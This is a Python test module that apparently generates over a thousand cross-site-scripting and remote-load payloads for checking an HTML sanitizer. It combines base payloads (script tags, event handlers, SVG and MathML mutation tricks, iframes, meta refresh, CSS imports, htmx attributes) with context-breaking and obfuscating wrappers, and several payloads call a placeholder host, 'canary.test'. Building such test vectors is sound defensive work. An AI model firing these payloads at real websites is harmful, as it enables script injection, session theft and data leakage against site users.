"""Markup that wants to run, or to call home, wherever a page would take text for markup (F5).

What it does when it succeeds can be seen: it opens a dialog, or it asks for something of CANARY.
"""

from collections.abc import Callable, Iterator
from html import escape

CANARY = "canary.test"
RUN = f"alert(1);fetch(`//{CANARY}/ran`)"

BASES = (
    f"<script>{RUN}</script>",
    f"<script src=//{CANARY}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=https://{CANARY}/remote.png>",
    f"<img srcset='//{CANARY}/set.png 1x'>",
    f'<image src=x onerror="{RUN}">',
    f"<picture><source srcset=//{CANARY}/p.png><img src=y></picture>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate attributeName=x dur=1s onbegin="{RUN}">',
    f'<svg><set attributeName=href to="javascript:{RUN}">',
    f'<svg><image href="//{CANARY}/svg.png"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x><image href=//{CANARY}/use.png></svg>#x"/>',
    f'<math href="javascript:{RUN}">x</math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=//{CANARY}/frame></iframe>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<object data=//{CANARY}/object></object>",
    f"<embed src=//{CANARY}/embed>",
    f'<video src=x onerror="{RUN}"></video>',
    f"<video poster=//{CANARY}/poster.png></video>",
    f"<audio autoplay src=//{CANARY}/a.mp3></audio>",
    f'<body onload="{RUN}">',
    f"<body background=//{CANARY}/body.png>",
    f"<table background=//{CANARY}/table.png><tr><td>x</table>",
    f'<input autofocus onfocus="{RUN}">',
    f"<input type=image src=//{CANARY}/input.png>",
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<xss tabindex=1 autofocus onfocus="{RUN}">x</xss>',
    f'<div popover id=p onbeforetoggle="{RUN}">x</div><button popovertarget=p>x</button>',
    f'<style>@import "//{CANARY}/import.css";</style>',
    f"<style>*{{background:url(//{CANARY}/style.png)}}</style>",
    f'<div style="background:url(//{CANARY}/inline.png)">x</div>',
    f"<link rel=stylesheet href=//{CANARY}/link.css>",
    f"<link rel=preload as=image href=//{CANARY}/preload.png>",
    f"<base href=//{CANARY}/base/>",
    f'<meta http-equiv=refresh content="0;url=//{CANARY}/refresh">',
    f"<form id=f action=//{CANARY}/form></form><input form=f autofocus onfocus=f.submit()>",
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<div hx-get="//{CANARY}/hx" hx-trigger=load>x</div>',
    f'<div hx-on--load="{RUN}" data-hx-get="/" data-hx-trigger=load>x</div>',
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f'javascript:{RUN}//"',
    f'{{{{constructor.constructor("{RUN}")()}}}}',
)
WRAPPERS: tuple[Callable[[str], str], ...] = (
    str,
    '">{}'.format,
    "'>{}".format,
    "</textarea>{}".format,
    "</title>{}".format,
    "</style>{}".format,
    "</script>{}".format,
    "-->{}".format,
    "<!-->{}".format,
    "]]>{}".format,
    "<![CDATA[{}]]>".format,
    "<noscript>{}</noscript>".format,
    '<noscript><p title="</noscript>{}">'.format,
    "<svg>{}</svg>".format,
    "<svg><style>{}</style></svg>".format,
    "<svg><foreignObject>{}</foreignObject></svg>".format,
    "<math><mtext>{}</mtext></math>".format,
    "<table><tr>{}</tr></table>".format,
    "<select>{}</select>".format,
    "<form><form>{}".format,
    "<p><b><i>{}</b></i>".format,
    '<a href="https://sgc.test/{}">'.format,
    "<<{}".format,
    lambda base: base.replace("<", "<\x00").replace("script", "scr<script>ipt"),
    lambda base: base.swapcase().replace(CANARY.swapcase(), CANARY),
    escape,
    lambda base: escape(escape(base)),
)


def vectors() -> Iterator[str]:
    """Every base in every wrapper: more than a thousand."""
    for wrap in WRAPPERS:
        for base in BASES:
            yield wrap(base)
